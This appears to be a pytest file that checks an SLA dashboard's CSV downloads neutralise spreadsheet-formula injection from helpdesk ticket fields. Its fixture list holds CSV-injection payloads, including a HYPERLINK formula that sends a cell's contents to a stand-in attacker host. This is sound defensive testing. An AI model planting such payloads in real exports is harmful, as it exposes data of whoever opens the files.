"""Ticket text is written by anyone who can type into the helpdesk: the downloads never carry a live
spreadsheet formula taken from it.

The fixture database gets three breached Acme tickets whose id, team, category, agent and channel
begin with a formula character (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab).
"""
from __future__ import annotations

import csv
import io
import shutil

import polars as pl
import pytest
import streamlit as st

from slametrics.db import connect
from slametrics.ingest import ingest_frames
from slametrics.output import FORMULA_STARTS
from slametrics.policy import load_policy
from tests.dashboard.helpers import open_page

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1"]


@pytest.fixture
def hostile_env(app_env, tmp_path, monkeypatch):
    db = tmp_path / "hostile.duckdb"
    shutil.copy(app_env[0], db)
    rows = [{"ticket_id": f"{text}#{i}", "client": "Acme", "priority": "P1",
             "created_at": f"2026-03-0{i + 1}T10:00:00Z", "first_response_at": f"2026-03-0{i + 1}T15:00:00Z",
             "resolved_at": f"2026-03-0{i + 1}T20:00:00Z", "team": text, "category": text, "agent": text,
             "channel": text} for i, text in enumerate(HOSTILE)]
    con = connect(db)
    try:
        ingest_frames(con, pl.DataFrame(rows), None, source="hostile.csv", policy=load_policy(app_env[1]))
    finally:
        con.close()
    monkeypatch.setenv("SLA_DB", str(db))
    yield db


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[str, str]]:
    seen: list[tuple[str, str]] = []
    original = st.download_button

    def capture(label, data, *args, **kwargs):
        seen.append((kwargs.get("file_name", ""), data if isinstance(data, str) else data.decode("utf-8")))
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", capture)
    return seen


def live_formulas(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def test_no_download_carries_a_live_formula(hostile_env, downloads):
    at = open_page("breaches", user="pat")
    at.get("download_button")[0].click().run()  # so that the audit log holds a download entry too
    at.switch_page("pages/data.py").run()
    files = dict(downloads)
    breaches = files["breaches-acme-2026-01-to-2026-03.csv"]
    assert not live_formulas(breaches)
    assert not live_formulas(files["audit-log.csv"])
    rows = list(csv.DictReader(io.StringIO(breaches)))
    hostile = [r for r in rows if r["ticket_id"].startswith("'")]  # every cell is kept, made inert
    # (ingest trims surrounding whitespace: the tab-led value is stored as "=1")
    assert sorted(r["ticket_id"] for r in hostile) == sorted(f"'{t.strip()}#{i}" for i, t in enumerate(HOSTILE) for _ in (1, 2))
    for r in hostile:
        assert r["team"] == r["category"] == r["agent"] == r["channel"] == r["ticket_id"].rsplit("#", 1)[0]
    # 5h to answer a 30m P1 response, 10h to resolve an 8h P1 (round the clock): the figures are untouched
    assert sorted({r["overrun_seconds"] for r in hostile}) == ["16200", "7200"]
